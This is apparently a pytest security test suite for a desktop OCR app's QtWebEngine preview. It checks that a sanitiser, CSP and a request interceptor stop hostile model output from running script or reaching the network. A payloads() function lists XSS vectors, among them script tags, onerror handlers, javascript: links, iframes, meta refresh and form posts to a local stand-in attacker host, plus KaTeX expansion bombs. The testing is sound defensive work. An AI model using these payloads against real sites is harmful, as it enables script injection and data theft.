"""Hostile model output fed to the real preview: nothing runs, nothing loads, the page stays alive.

Each payload goes in twice: through the normal path (``set_text``: sanitiser, then the page), and
straight into the page with the sanitiser bypassed, as if it had a bug. The second path shows that the
page's Content-Security-Policy, Trusted Types, the request interceptor and the navigation filter hold
on their own. A local HTTP server stands in for the attacker's host and must see no request at all.
"""

from __future__ import annotations

import http.server
import os
import threading

import pytest

if not os.environ.get("DISPLAY"):
    os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")

from glmocr_desktop.gui.webengine import prepare_webengine

prepare_webengine()  # before pytest-qt creates the QApplication

from glmocr_desktop.gui.preview import js_call

pytestmark = pytest.mark.gui


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def _record(self) -> None:
        type(self).hits.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<script>window.__pwned=1</script>")

    do_GET = do_POST = do_HEAD = _record

    def log_message(self, *args) -> None:  # quiet
        pass


@pytest.fixture(scope="module")
def server():
    _Recorder.hits = []
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


def js(qtbot, view, expression: str, timeout: int = 15_000):
    box: list = []
    view.query(expression, box.append)
    qtbot.waitUntil(lambda: bool(box), timeout=timeout)
    return box[0]


def payloads(host: str) -> dict[str, str]:
    return {
        "script": "<script>window.__pwned=1</script>",
        "script_src": f'<script src="http://{host}/x.js"></script>',
        "img_onerror": '<img src=x onerror="window.__pwned=1">',
        "img_remote": f'<img src="http://{host}/x.png">',
        "js_link": '<a id="bad" href="javascript:window.__pwned=1">x</a>',
        "iframe": f'<iframe src="http://{host}/frame"></iframe>',
        "iframe_srcdoc": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
        "svg": '<svg onload="window.__pwned=1"><circle r="5"/></svg>',
        "svg_script": "<svg><script>window.__pwned=1</script></svg>",
        "style_import": f"<style>@import url(http://{host}/x.css)</style>",
        "style_attr": f'<p style="background:url(http://{host}/bg.png)">bg</p>',
        "meta_refresh": f'<meta http-equiv="refresh" content="0;url=http://{host}/">',
        "link_css": f'<link rel="stylesheet" href="http://{host}/l.css">',
        "object": f'<object data="http://{host}/o"></object><embed src="http://{host}/e">',
        "form": f'<form id="f" action="http://{host}/post" method="post"><input name="a" value="1"></form>',
        "base": f'<base href="http://{host}/">',
        "video": f'<video src="http://{host}/v.mp4" poster="http://{host}/p.png" autoplay></video>',
        "details_ontoggle": '<details open ontoggle="window.__pwned=1"><summary>s</summary></details>',
        "body_onload": '<body onload="window.__pwned=1">',
        "katex_href": r"$\href{javascript:window.__pwned=1}{x}$",
        "katex_url": rf"$\url{{http://{host}/u}}$",
        "katex_includegraphics": rf"$\includegraphics{{http://{host}/g.png}}$",
        "katex_html_attrs": r"$\htmlId{content}{x} \htmlClass{notice}{y} \htmlStyle{background:url(x)}{z}$",
        "katex_expand_bomb": r"$$\def\a{\b\b\b\b\b\b\b\b\b\b}\def\b{\c\c\c\c\c\c\c\c\c\c}\def\c{xxxxxxxxxx}\a\a\a\a$$",
        "katex_size": r"$\rule{100000em}{100000em}\kern100000em x$",
        "blank_target": f'<a href="http://{host}/blank" target="_blank" ping="http://{host}/ping">new tab</a>',
        "download": f'<a href="http://{host}/file.exe" download>save</a>',
        "md_links": f"[a](javascript:window.__pwned=1) [b](http://{host}/md) ![c](http://{host}/i.png)",
    }


def clean_state(qtbot, view) -> None:
    assert js(qtbot, view, "typeof window.__pwned") == "undefined"
    assert js(qtbot, view, "1 + 1") == 2  # alive and answering
    assert js(qtbot, view, "typeof setBlocks") == "function"  # the page's API was not replaced
    assert js(qtbot, view, "location.protocol") == "file:"  # still our page
    assert view.page.url().toLocalFile().endswith("preview.html")


def no_network(view, server: str) -> None:
    assert _Recorder.hits == [], _Recorder.hits
    # Anything that reached the network stack went to the interceptor and was blocked there.
    for blocked in view.blocked_requests:
        assert not blocked.url.startswith("file:"), blocked


def settle(qtbot, view) -> None:
    """Give the page time to act on anything it might have been tricked into (loads, timers, refresh)."""
    qtbot.wait(300)
    js(qtbot, view, "previewState()")


PAYLOAD_NAMES = sorted(payloads("h"))


@pytest.mark.parametrize("name", PAYLOAD_NAMES)
def test_sanitised_path(qtbot, preview, server, name):
    preview.set_text(f"Before.\n\n{payloads(server)[name]}\n\nAfter $x$.")
    qtbot.waitUntil(lambda: js(qtbot, preview, "previewState().blocks") >= 2)
    settle(qtbot, preview)
    clean_state(qtbot, preview)
    no_network(preview, server)
    # only the page's own two scripts exist
    assert js(qtbot, preview, "document.scripts.length") == 2
    assert (
        js(
            qtbot,
            preview,
            "document.querySelectorAll('#content :is(iframe, img, svg, style, meta, object, embed, form, base, video, script, link)').length",
        )
        == 0
    )


@pytest.mark.parametrize("name", PAYLOAD_NAMES)
def test_sanitiser_bypassed_page_still_holds(qtbot, preview, server, name):
    """The raw payload is handed to the page as if the sanitiser had let it through."""
    preview.run_js(
        js_call(
            "setBlocks",
            0,
            ["<p>Before.</p>", payloads(server)[name], '<p>After <span class="math inline">x</span></p>'],
            3,
        )
    )
    qtbot.waitUntil(lambda: js(qtbot, preview, "previewState().blocks") == 3)
    # Try to trigger whatever might be there: click every link, submit every form.
    preview.run_js("document.querySelectorAll('#content a').forEach(a => a.click())")
    preview.run_js(
        "document.querySelectorAll('#content form').forEach(f => { try { f.submit(); } catch (e) {} })"
    )
    settle(qtbot, preview)
    clean_state(qtbot, preview)
    no_network(preview, server)


def test_javascript_link_click_with_the_mouse(qtbot, preview, server):
    from PySide6.QtCore import QPoint, Qt

    preview.run_js(
        js_call(
            "setBlocks",
            0,
            ['<p><a id="bad" href="javascript:window.__pwned=1" style="font-size:40px">click me</a></p>'],
            1,
        )
    )
    qtbot.waitUntil(lambda: js(qtbot, preview, "document.querySelectorAll('#bad').length") == 1)
    rect = js(
        qtbot,
        preview,
        "(() => { const r = document.getElementById('bad').getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2]; })()",
    )
    target = preview.view.focusProxy() or preview.view
    qtbot.mouseClick(target, Qt.MouseButton.LeftButton, pos=QPoint(int(rect[0]), int(rect[1])))
    settle(qtbot, preview)
    clean_state(qtbot, preview)
    no_network(preview, server)


def test_sanitised_link_click_is_only_reported(qtbot, preview, server):
    preview.set_text(f"[x](http://{server}/clicked)")
    qtbot.waitUntil(lambda: js(qtbot, preview, "document.querySelectorAll('#content a').length") == 1)
    with qtbot.waitSignal(preview.link_clicked, timeout=10_000) as clicked:
        preview.run_js("document.querySelector('#content a').click()")
    assert clicked.args[0].toString() == f"http://{server}/clicked"
    settle(qtbot, preview)
    clean_state(qtbot, preview)
    no_network(preview, server)


def test_very_long_input(qtbot, preview, server):
    text = ("Long line of recognised text with $a_i$ math and <b>bold</b>. " * 16 + "\n\n") * 1100  # ~1 MB
    assert len(text) > 1_000_000
    preview.set_text(text)
    qtbot.waitUntil(lambda: js(qtbot, preview, "previewState().blocks") > 10, timeout=60_000)
    assert js(qtbot, preview, "document.querySelector('#content .notice') !== null")
    clean_state(qtbot, preview)
    # one giant formula is shown as source (with the budget's notice), not fed to KaTeX
    preview.set_text("$$" + "x+" * 200_000 + "x$$", "formula")
    qtbot.waitUntil(
        lambda: js(qtbot, preview, "document.querySelectorAll('.over-budget pre.source').length") == 1,
        timeout=60_000,
    )
    assert "shown as plain text" in js(qtbot, preview, "document.querySelector('.over-budget .notice').textContent")
    assert js(qtbot, preview, "previewState().katex") == 0
    clean_state(qtbot, preview)
    no_network(preview, server)


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 10_000 + "deep" + "</div>" * 10_000,
        "[" * 10_000 + "x" + "]" * 10_000 + "(http://127.0.0.1:9/)",
        "> " * 10_000 + "quoted",
        "$" + "{" * 10_000 + "x" + "}" * 10_000 + "$",
        "$$" + "\\frac{" * 3_000 + "x" + "}{y}" * 3_000 + "$$",
        "$$" + "\\sqrt{" * 5_000 + "x" + "}" * 5_000 + "$$",
        "<table>" + "<tr><td><table>" * 2_000 + "x" + "</table></td></tr>" * 2_000 + "</table>",
    ],
    ids=["divs", "brackets", "quotes", "tex-braces", "tex-fracs", "tex-sqrt", "tables"],
)
def test_deep_nesting(qtbot, preview, server, text):
    preview.set_text(text)
    qtbot.waitUntil(lambda: js(qtbot, preview, "previewState().blocks") >= 1, timeout=60_000)
    clean_state(qtbot, preview)
    no_network(preview, server)
    # and the next, ordinary result still renders
    preview.set_text("Fine: $x^2$")
    qtbot.waitUntil(lambda: js(qtbot, preview, "previewState().katex") == 1, timeout=30_000)


def test_deep_nesting_bypassing_the_sanitiser(qtbot, preview, server):
    raw = (
        "<div>" * 10_000
        + '<img src="http://'
        + server
        + '/deep.png" onerror="window.__pwned=1">'
        + "</div>" * 10_000
    )
    preview.run_js(js_call("setBlocks", 0, [raw], 1))
    qtbot.waitUntil(lambda: js(qtbot, preview, "previewState().blocks") == 1, timeout=60_000)
    settle(qtbot, preview)
    clean_state(qtbot, preview)
    no_network(preview, server)


def test_many_hostile_payloads_streamed(qtbot, preview, server):
    text = "\n\n".join(payloads(server).values())
    for i in range(1, len(text) + 1, 17):
        preview.stream_text(text[:i])
        if i % 170 == 1:
            qtbot.wait(2)
    preview.set_text(text)
    qtbot.waitUntil(lambda: js(qtbot, preview, "previewState().blocks") >= 10, timeout=30_000)
    settle(qtbot, preview)
    clean_state(qtbot, preview)
    no_network(preview, server)
